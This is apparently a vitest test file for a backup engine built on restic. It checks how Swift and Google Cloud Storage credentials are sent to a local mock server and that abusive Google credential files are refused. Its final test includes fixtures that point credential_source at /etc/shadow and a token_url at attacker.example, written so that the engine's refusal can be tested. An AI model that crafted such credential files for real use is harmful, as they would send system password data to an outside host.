import { generateKeyPairSync } from "node:crypto";
import { chmod } from "node:fs/promises";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { newestRestic } from "../support/restic.ts";
import { type EngineHost, openEngineHost } from "./engine-host.ts";

// What restic does with the credentials of storages that can't be had here: a server in their place sees what is sent.
// That every variable reaches restic is shown by test/takeover/exec.test.ts; rest: and s3: have real servers in
// test/provider/remote.test.ts.

interface Request {
  readonly path: string;
  readonly headers: IncomingMessage["headers"];
  readonly body: string;
}

let host: EngineHost;
let server: Server;
let origin: string;
let seen: (request: Request) => void;
let first: Promise<Request>;

beforeEach(async () => {
  host = await openEngineHost(newestRestic());
  await host.write("data/file", "one");
  first = new Promise((resolve) => (seen = resolve));
  server = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk: Buffer) => (body += chunk.toString()));
    request.on("end", () => {
      seen({ path: request.url ?? "", headers: request.headers, body });
      response.writeHead(403).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterEach(async () => {
  server.closeAllConnections();
  server.close();
  await host.close();
});

/** Files that root alone can read. */
async function filesOf(secrets: Record<string, string>) {
  const named = Object.entries(secrets).map(async ([name, text]) => {
    const file = await host.write(`secrets/${name}`, text);
    await chmod(file, 0o400);
    return [name, { file }] as const;
  });
  return Object.fromEntries(await Promise.all(named));
}

/** @returns the first request that a backup sends; the run is cancelled then */
async function firstRequest(location: string, secrets: Record<string, string>, user?: string): Promise<Request> {
  const stop = new AbortController();
  const work = host.work({ location, secrets: await filesOf(secrets), ...(user === undefined ? {} : { user }) });
  const run = host.backup(work, { signal: stop.signal });
  const ended = run.then(({ failure }) => {
    throw new Error(`no request was sent: ${failure?.message}`);
  });
  try {
    return await Promise.race([first, ended]);
  } finally {
    ended.catch(() => undefined);
    stop.abort(new Error("seen"));
    await run;
  }
}

describe("credentials of a storage", () => {
  it("of swift: are those of ST_…", async () => {
    const secrets = { ST_AUTH: `${origin}/auth/v1.0`, ST_USER: "account:me", ST_KEY: "the-key" };
    expect((await firstRequest("swift:container:/path", secrets)).headers).toMatchObject({
      "x-auth-user": "account:me",
      "x-auth-key": "the-key",
    });
  });

  it("of swift: are those of OS_…", async () => {
    const { path, body } = await firstRequest("swift:container:/path", {
      OS_AUTH_URL: `${origin}/v3`,
      OS_USERNAME: "me",
      OS_PASSWORD: "the-password",
      OS_USER_DOMAIN_NAME: "Default",
      OS_PROJECT_NAME: "backups",
      OS_PROJECT_DOMAIN_NAME: "Default",
    });
    expect(path).toBe("/v3/auth/tokens");
    for (const value of ["me", "the-password", "Default", "backups"]) expect(body).toContain(`"${value}"`);
  });

  it.each(process.getuid?.() === 0 ? ["root", "nobody"] : [undefined])(
    "of gs: are in a file that only root can read, also as %s",
    async (user) => {
      const { privateKey } = generateKeyPairSync("rsa", {
        modulusLength: 2048,
        privateKeyEncoding: { type: "pkcs8", format: "pem" },
        publicKeyEncoding: { type: "spki", format: "pem" },
      });
      const account = {
        type: "service_account",
        project_id: "mine",
        private_key_id: "1",
        private_key: privateKey,
        client_email: "backup@mine.example",
        token_uri: `${origin}/token`,
      };
      const secrets = {
        GOOGLE_PROJECT_ID: "mine",
        GOOGLE_APPLICATION_CREDENTIALS: JSON.stringify(account, null, 2),
      };
      const { path, body } = await firstRequest("gs:bucket:/path", secrets, user);
      expect(path).toBe("/token");
      const claims = new URLSearchParams(body).get("assertion")?.split(".")[1] ?? "";
      expect(JSON.parse(Buffer.from(claims, "base64url").toString())).toMatchObject({ iss: "backup@mine.example" });
    },
  );

  it.each([
    ["names a file to send", { type: "external_account", credential_source: { file: "/etc/shadow" } }],
    ["is no account", "/run/secrets/google.json"],
    [
      "names a file to send, by a key in other letters, which counts for restic",
      {
        type: "service_account",
        Type: "external_account",
        audience: "//iam.googleapis.com/x",
        subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
        token_url: "https://attacker.example/token",
        credential_source: { file: "/etc/shadow" },
      },
    ],
  ])("of gs: are refused when the file %s", async (_what, given) => {
    const secrets = await filesOf({ GOOGLE_APPLICATION_CREDENTIALS: JSON.stringify(given) });
    const { failure } = await host.backup(host.work({ location: "gs:bucket:/path", secrets }));
    expect(failure).toMatchObject({
      code: "secret.unreadable",
      message: expect.stringContaining("GOOGLE_APPLICATION_CREDENTIALS"),
    });
  });
});
